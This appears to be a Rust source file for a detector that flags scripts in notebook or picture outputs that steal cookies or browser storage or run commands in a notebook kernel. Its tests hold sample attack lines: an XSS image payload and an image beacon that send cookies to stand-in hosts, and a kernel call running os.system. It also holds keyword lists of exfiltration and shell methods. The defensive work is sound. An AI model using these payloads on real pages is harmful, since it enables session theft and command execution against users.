//! Scripts of web pages, as far as notebooks and pictures carry them: what the page of whoever opens them does.

/// What a script in a page does that a figure has no need of; `None` for anything else.
///
/// Figures of plotting libraries are scripts too, and fetch their parts. What they never do is take what the
/// reader is signed in with, or run code in the reader's kernel.
#[must_use]
pub fn sends(page: &str) -> Option<&'static str> {
    let has = |part: &str| page.contains(part);
    let takes = ["document.cookie", "localStorage", "sessionStorage"].iter().any(|place| has(place));
    let sends = [
        "fetch(",
        "XMLHttpRequest",
        "sendBeacon",
        "new Image",
        "WebSocket(",
        ".src=",
        ".src =",
        "$.post",
        "$.get",
        "axios.",
    ]
    .iter()
    .any(|way| has(way));
    if has("document.cookie") && sends {
        return Some("sends the cookies of whoever opens it");
    }
    let elsewhere = has("http://") || has("https://") || has("//");
    if takes && sends && elsewhere && (has("token") || has("JSON.stringify(localStorage")) {
        return Some("sends what the browser keeps for whoever opens it");
    }
    let kernel = ["notebook.kernel.execute(", "kernel.requestExecute("].iter().any(|way| has(way));
    (kernel && ["os.system", "subprocess", "!curl", "!wget", "exec(", "eval("].iter().any(|what| has(what)))
        .then_some("runs commands in the kernel of whoever opens it")
}

#[cfg(test)]
mod tests {
    use super::sends;

    #[test]
    fn figures_are_told_from_thieves() {
        assert!(sends("<img src=x onerror=\"fetch('http://192.0.2.7/' + document.cookie)\">").is_some());
        assert!(sends("new Image().src='//x.example/?' + document.cookie").is_some());
        assert!(sends("IPython.notebook.kernel.execute('import os; os.system(\"id\")')").is_some());
        assert!(
            sends("fetch('https://cdn.example/plotly.js'); localStorage.setItem('theme', 'dark')").is_none()
        );
        assert!(sends("document.cookie = 'a=1'").is_none());
        assert!(sends("IPython.notebook.kernel.execute('x = 3')").is_none());
    }
}
